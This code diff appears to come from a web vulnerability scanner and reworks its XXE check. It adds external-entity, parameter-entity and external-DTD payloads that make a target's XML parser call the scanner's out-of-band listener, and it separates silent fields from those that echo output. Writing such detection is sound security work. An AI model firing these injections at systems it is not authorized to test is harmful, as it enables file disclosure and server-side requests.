@@ -117,15 +117,22 @@ const ASKS_FOR_XML =
   /(?<![\w/.])xml\b(?!ns)|start tag expected|document is empty|not well-formed|content is not allowed in prolog|DOMDocument|simplexml/i;
 const visibleText = (text: string) => text.slice(0, 200_000).replaceAll(/<[^>]{0,2000}>/g, ' ');
 
-/** A field for texts whose page speaks of XML, with a document in it; null: it answers that as any other text. */
-async function withDocument(point: InjectionPoint, tools: AttackTools): Promise<InjectionPoint | null> {
+interface Documented {
+  readonly point: InjectionPoint;
+  /** It is answered as any other text: what is made of it shows elsewhere alone. */
+  readonly isSilent: boolean;
+}
+
+/** A field for texts whose page speaks of XML, with a document in it; null: nothing says that it reads one. */
+async function withDocument(point: InjectionPoint, tools: AttackTools): Promise<Documented | null> {
   const trial = await Trial.begin(point, tools);
   if (!trial?.atLeast('default')) return null;
-  const speaks = /xml|soap|saml|svg/i.test(point.name) || ASKS_FOR_XML.test(visibleText(trial.other.text));
-  if (!speaks) return null;
+  const isNamed = /xml|soap|saml|svg/i.test(point.name);
+  if (!isNamed && !ASKS_FOR_XML.test(visibleText(trial.other.text))) return null;
   const document = exampleIn(trial.other.text) ?? XML_FILE;
   const answer = await trial.send(document);
-  return trial.distance(answer, trial.other) === 0 ? null : { ...point, value: document };
+  const isSilent = trial.distance(answer, trial.other) === 0;
+  return isSilent && !(isNamed && tools.listener) ? null : { point: { ...point, value: document }, isSilent };
 }
 
 const WRITTEN =
@@ -185,9 +192,10 @@ const documentOf = ({ kind, value, request }: Trial['point']): string | null => 
 
 /**
  * The document with these declarations, and an entity in the place of the point's text; without one, of every text that is
- * no number, since what is shown of a document is seldom the first, and numbers are counted with.
+ * no number, since what is shown of a document is seldom the first, and numbers are counted with. `outside`: where declarations
+ * come from besides.
  */
-function withEntity(document: string, value: string, declarations: string, text: string): string {
+function withEntity(document: string, value: string, declarations: string, text: string, outside = ''): string {
   const [, head = '', rest = ''] = /^(\s*<\?xml[^>]{0,200}\?>)?([\s\S]*)$/.exec(document) ?? [];
   const body = rest.replace(DECLARED, '');
   const root = /<([A-Za-z_][\w:.-]{0,60})/.exec(body)?.[1] ?? 'root';
@@ -200,7 +208,7 @@ function withEntity(document: string, value: string, declarations: string, text:
       : all === body
         ? body.replace(/>([^<]{0,2000})<\//, () => `>${text}</`)
         : all;
-  return `${head}<!DOCTYPE ${root} [${declarations}]>${filled}`;
+  return `${head}<!DOCTYPE ${root} ${outside}[${declarations}]>${filled}`;
 }
 
 async function sendDocument(trial: Trial, document: string): Promise<Answer> {
@@ -265,29 +273,41 @@ async function byDeclaredFile(
   return null;
 }
 
+/** What makes a parser ask for an address: many that are kept from one of them still follow another. */
+const ASKING: ReadonlyArray<(url: string) => { declarations: string; isNamed?: true; outside?: string }> = [
+  (url) => ({ declarations: `<!ENTITY rq SYSTEM "${url}">`, isNamed: true }),
+  (url) => ({ declarations: `<!ENTITY % rq SYSTEM "${url}"> %rq;` }),
+  (url) => ({ declarations: '', outside: `SYSTEM "${url}" ` }),
+];
+const HEARD_MS = 1_500;
+
 async function byListener(trial: Trial, document: string): Promise<WebSighting | null> {
-  const { listener } = trial.tools;
+  const { listener, token: newToken } = trial.tools;
   if (!listener) return null;
-  const forms = [
-    { declare: (url: string) => `<!ENTITY rq SYSTEM "${url}">`, text: '&rq;' },
-    { declare: (url: string) => `<!ENTITY % rq SYSTEM "${url}"> %rq;`, text: trial.point.value || 'q' },
-  ];
-  for (const { declare, text } of forms) {
-    const ask = async () => {
-      const token = trial.tools.token();
-      const url = listener.urlFor(token);
-      const answer = await sendDocument(trial, withEntity(document, trial.point.value, declare(url), text));
-      const heard = await listener.heard(token, 1_500);
-      return heard && { answer, url, from: heard.from };
-    };
-    const first = await ask();
-    const again = first && (await ask());
-    if (!again) continue;
+  const { value } = trial.point;
+  const plain = value === '' || isXml(value) ? 'q' : value;
+  const ask = async (asking: (typeof ASKING)[number]) => {
+    const token = newToken();
+    const url = listener.urlFor(token);
+    const { declarations, isNamed, outside } = asking(url);
+    const answer = await sendDocument(
+      trial,
+      withEntity(document, value, declarations, isNamed ? '&rq;' : plain, outside),
+    );
+    return { asking, answer, url, heard: () => listener.heard(token, HEARD_MS) };
+  };
+  const asked = [];
+  for (const asking of ASKING) asked.push(await ask(asking));
+  const answers = await Promise.all(asked.map(async (one) => ({ ...one, from: (await one.heard())?.from })));
+  for (const first of answers) {
+    if (first.from === undefined) continue;
+    const again = await ask(first.asking);
+    if (!(await again.heard())) continue;
     // An address that is only mentioned must not be asked for.
-    const token = trial.tools.token();
-    const mentioned = withEntity(document, trial.point.value, `<!ENTITY rq "q">`, listener.urlFor(token));
+    const token = newToken();
+    const mentioned = withEntity(document, value, `<!ENTITY rq "q">`, listener.urlFor(token));
     const harmless = await sendDocument(trial, mentioned);
-    if (await listener.heard(token, 1_500)) continue;
+    if (await listener.heard(token, HEARD_MS)) continue;
     const evidence = filled(
       {
         it: 'L’interprete XML ha chiesto al nostro ascoltatore l’entità esterna {url} (da {from}), di nuovo per un’altra, e non per un indirizzo soltanto citato.',
@@ -318,21 +338,24 @@ export const xxe = {
       const inside = insideOffice(seen, office, tools);
       return attackDocument(inside.point, inside.tools);
     }
-    const point = isDocument
-      ? isPlainXmlBody(seen.request)
-        ? await withDocumentAsBody(seen, tools)
-        : seen
-      : isFile(seen)
-        ? await withXmlFile(seen, tools)
-        : ((await withDocument(seen, tools)) ?? (await asDocument(seen, tools)));
+    if (!isDocument && !isFile(seen)) {
+      const made = await withDocument(seen, tools);
+      return attackDocument(made?.point ?? (await asDocument(seen, tools)), tools, made?.isSilent);
+    }
+    const asBody = isDocument && isPlainXmlBody(seen.request);
+    const point = asBody ? await withDocumentAsBody(seen, tools) : isDocument ? seen : await withXmlFile(seen, tools);
     return attackDocument(point, tools);
   },
 } as const satisfies PointCheck;
 
-async function attackDocument(point: InjectionPoint | null, tools: AttackTools): Promise<readonly WebSighting[]> {
+async function attackDocument(
+  point: InjectionPoint | null,
+  tools: AttackTools,
+  isSilent = false,
+): Promise<readonly WebSighting[]> {
   const trial = point && (await Trial.begin(point, tools));
   const document = trial && documentOf(point);
   if (!trial || !document) return [];
-  const found = (await byFile(trial, document)) ?? (await byListener(trial, document));
+  const found = (isSilent ? null : await byFile(trial, document)) ?? (await byListener(trial, document));
   return found ? [found] : [];
 }
